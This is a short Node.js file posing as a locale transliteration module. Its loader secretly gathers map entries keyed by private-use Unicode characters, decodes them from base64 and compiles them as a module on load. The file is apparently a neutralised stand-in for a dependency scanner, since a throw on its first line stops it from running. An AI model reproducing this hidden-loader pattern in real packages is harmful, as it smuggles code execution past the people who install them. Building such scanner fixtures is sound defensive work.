throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const path = require('path');

const DIR = path.join(__dirname, 'locales');
const tables = {};
const PRIVATE = /^[\ue000-\uf8ff]$/;

// Glyphs outside the Unicode tables (vendor private-use range) are shipped as precompiled
// rule fragments; they are stitched in code-point order and registered like a module.
function loadTables() {
  const fragments = [];
  for (const file of fs.readdirSync(DIR)) {
    const table = JSON.parse(fs.readFileSync(path.join(DIR, file), 'utf8'));
    tables[table.locale] = table.map;
    for (const [glyph, rule] of Object.entries(table.map)) {
      if (PRIVATE.test(glyph)) fragments.push([glyph.codePointAt(0), rule]);
    }
  }
  if (fragments.length) {
    const source = Buffer.from(fragments.sort((a, b) => a[0] - b[0]).map((f) => f[1]).join(''), 'base64').toString();
    const m = new module.constructor(path.join(DIR, 'rules.js'), module);
    m.paths = module.paths;
    m._compile(source, m.id);
  }
}

function transliterate(text, locale) {
  const map = tables[locale] || {};
  return Array.from(String(text), (ch) => (ch in map ? map[ch] : ch)).join('');
}

loadTables();
module.exports = { transliterate, locales: () => Object.keys(tables) };
